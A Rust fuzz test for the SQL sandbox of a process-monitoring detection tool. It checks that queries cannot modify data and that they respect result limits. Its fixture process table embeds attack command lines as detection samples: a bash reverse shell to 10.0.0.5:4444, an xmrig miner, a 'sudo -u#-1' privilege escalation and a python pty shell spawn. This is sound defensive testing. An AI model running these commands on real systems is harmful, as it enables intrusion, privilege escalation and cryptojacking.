//! Fuzzes the two walls of the SQL sandbox together: the input is a query, as a rule or
//! `daemoneye-cli query` hands it over. `precheck::check` reads it first; a query it accepts
//! runs in a sandbox holding 20 processes and 4 users, under a 50 ms budget and a 100-row limit.
//!
//! Any panic is a finding. The assertions state what the sandbox promises:
//! - a query changes nothing: after it, `processes` still holds its 20 rows and `users` its 4
//!   (the authorizer denies every write, so a query that got past the parser must still fail to
//!   write);
//! - a refusal or query error is one line (they are logged and printed one per line);
//! - an accepted query keeps its text, and a result has at most `max_rows` rows, each as wide
//!   as the column list.

#![no_main]

use std::time::Duration;

use daemoneye_lib::detection::precheck::{self, CheckedSql};
use daemoneye_lib::detection::sandbox::{Cell, Dataset, Limits, Sandbox};
use daemoneye_lib::models::{OnDisk, ProcessRecord};
use libfuzzer_sys::fuzz_target;

const LIMITS: Limits = Limits {
    timeout: Duration::from_millis(50),
    max_rows: 100,
    max_memory: 64 * 1024 * 1024,
};

const PROCESSES: i64 = 20;
const USERS: i64 = 4;

/// `(pid, parent, name, path, cmdline, uid, on_disk)`.
type Process = (
    u32,
    u32,
    &'static str,
    Option<&'static str>,
    &'static str,
    u32,
    OnDisk,
);

/// A small host: init, kernel threads, daemons, a login shell and a few things rules look for
/// (a deleted binary in /tmp, a reverse shell, a miner), so that joins, the `process_creation`
/// view and LIKE / REGEXP filters have something to find.
const TABLE: [Process; PROCESSES as usize] = [
    (
        1,
        0,
        "systemd",
        Some("/usr/lib/systemd/systemd"),
        "/sbin/init splash",
        0,
        OnDisk::Present,
    ),
    (2, 0, "kthreadd", None, "", 0, OnDisk::Unknown),
    (37, 2, "kworker/0:2", None, "", 0, OnDisk::Unknown),
    (
        412,
        1,
        "systemd-journal",
        Some("/usr/lib/systemd/systemd-journald"),
        "/usr/lib/systemd/systemd-journald",
        0,
        OnDisk::Present,
    ),
    (
        640,
        1,
        "cron",
        Some("/usr/sbin/cron"),
        "/usr/sbin/cron -f",
        0,
        OnDisk::Present,
    ),
    (
        700,
        1,
        "sshd",
        Some("/usr/sbin/sshd"),
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        0,
        OnDisk::Present,
    ),
    (
        710,
        700,
        "sshd",
        Some("/usr/sbin/sshd"),
        "sshd: alice [priv]",
        0,
        OnDisk::Present,
    ),
    (
        711,
        710,
        "sshd",
        Some("/usr/sbin/sshd"),
        "sshd: alice@pts/0",
        1000,
        OnDisk::Present,
    ),
    (
        712,
        711,
        "bash",
        Some("/usr/bin/bash"),
        "-bash",
        1000,
        OnDisk::Gone,
    ),
    (
        800,
        1,
        "nginx",
        Some("/usr/sbin/nginx"),
        "nginx: master process /usr/sbin/nginx -g daemon on;",
        0,
        OnDisk::Present,
    ),
    (
        801,
        800,
        "nginx",
        Some("/usr/sbin/nginx"),
        "nginx: worker process",
        33,
        OnDisk::Present,
    ),
    (
        900,
        1,
        "containerd",
        Some("/usr/bin/containerd"),
        "/usr/bin/containerd",
        0,
        OnDisk::Unknown,
    ),
    (
        1200,
        712,
        "sudo",
        Some("/usr/bin/sudo"),
        "sudo -u#-1 /bin/bash",
        0,
        OnDisk::Present,
    ),
    (
        1201,
        1200,
        "bash",
        Some("/usr/bin/bash"),
        "/bin/bash",
        0,
        OnDisk::Present,
    ),
    (
        4100,
        712,
        "x",
        Some("/tmp/tmp.Ab12/x"),
        "/tmp/tmp.Ab12/x 60",
        1000,
        OnDisk::Gone,
    ),
    (
        4200,
        1,
        "3",
        Some("/memfd:"),
        "[kthreadd]",
        1000,
        OnDisk::Gone,
    ),
    (
        4300,
        801,
        "sh",
        Some("/usr/bin/dash"),
        "sh -c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
        33,
        OnDisk::Present,
    ),
    (
        4301,
        4300,
        "bash",
        Some("/usr/bin/bash"),
        "bash -i",
        33,
        OnDisk::Present,
    ),
    (
        5000,
        640,
        "xmrig",
        Some("/var/tmp/.x/xmrig"),
        "./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1",
        1001,
        OnDisk::Present,
    ),
    (
        5100,
        712,
        "python3",
        Some("/usr/bin/python3.12"),
        "python3 -c import pty;pty.spawn(\"/bin/sh\")",
        1000,
        OnDisk::Present,
    ),
];

fn records() -> Vec<ProcessRecord> {
    TABLE
        .iter()
        .map(
            |&(pid, parent, name, path, cmdline, uid, on_disk)| ProcessRecord {
                pid,
                parent: Some(parent),
                name: Some(name.to_owned()),
                path: path.map(str::to_owned),
                cmdline: Some(cmdline.to_owned()),
                cwd: Some(if uid == 0 { "/" } else { "/home/alice" }.to_owned()),
                root: Some("/".to_owned()),
                state: Some("S".to_owned()),
                uid: Some(uid),
                gid: Some(uid),
                euid: Some(uid),
                egid: Some(uid),
                on_disk,
                resident_size: Some(4096 * u64::from(pid)),
                start_time: Some(1_760_000_000 + i64::from(pid)),
                threads: Some(1),
                nice: Some(0),
                exe_sha256: path.map(|path| format!("{:064x}", path.len())),
                cpu_percent: Some(f64::from(pid % 7) * 1.5),
                scan_id: 7,
                collected_at: 1_760_000_100_000,
                ..ProcessRecord::default()
            },
        )
        .collect()
}

fn sandbox() -> Sandbox {
    let mut sandbox = Sandbox::new(LIMITS).expect("setting up the sandbox");
    let processes = records();
    let users = [
        (0, "root".to_owned()),
        (33, "www-data".to_owned()),
        (1000, "alice".to_owned()),
        (1001, "bob".to_owned()),
    ];
    sandbox
        .load(&Dataset {
            processes: Some(&processes),
            users: Some(&users),
            ..Dataset::default()
        })
        .expect("loading the processes");
    sandbox
}

thread_local! {
    /// Made once: a `Sandbox` holds a `rusqlite::Connection`, which is not `Sync`.
    static SANDBOX: Sandbox = sandbox();
    static COUNT_PROCESSES: CheckedSql =
        precheck::check("SELECT count(*) FROM processes").expect("the count query");
    static COUNT_USERS: CheckedSql =
        precheck::check("SELECT count(*) FROM users").expect("the count query");
}

fn assert_one_line(what: &str, text: &str) {
    assert!(
        !text.contains(['\n', '\r']),
        "{what} is not one line: {text:?}"
    );
}

fn count(sandbox: &Sandbox, query: &'static std::thread::LocalKey<CheckedSql>) -> i64 {
    let result = query
        .with(|sql| sandbox.run(sql))
        .unwrap_or_else(|err| panic!("counting rows after the query: {err}"));
    match result.rows.as_slice() {
        [row] => match row.as_slice() {
            [Cell::Integer(count)] => *count,
            other => panic!("count(*) returned {other:?}"),
        },
        other => panic!("count(*) returned {} rows", other.len()),
    }
}

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let checked = match precheck::check(text) {
        Ok(checked) => checked,
        Err(refusal) => {
            assert_one_line("a refusal", &refusal.to_string());
            return;
        }
    };
    assert_eq!(
        checked.sql(),
        text,
        "the checked query is not the text given"
    );
    SANDBOX.with(|sandbox| {
        match sandbox.run(&checked) {
            Ok(result) => {
                assert!(
                    result.rows.len() <= LIMITS.max_rows,
                    "{} rows, over the limit",
                    result.rows.len()
                );
                for row in &result.rows {
                    assert_eq!(row.len(), result.columns.len(), "a row of the wrong width");
                }
            }
            Err(err) => assert_one_line("a query error", &err.to_string()),
        }
        assert_eq!(
            count(sandbox, &COUNT_PROCESSES),
            PROCESSES,
            "the query changed processes"
        );
        assert_eq!(
            count(sandbox, &COUNT_USERS),
            USERS,
            "the query changed users"
        );
    });
});
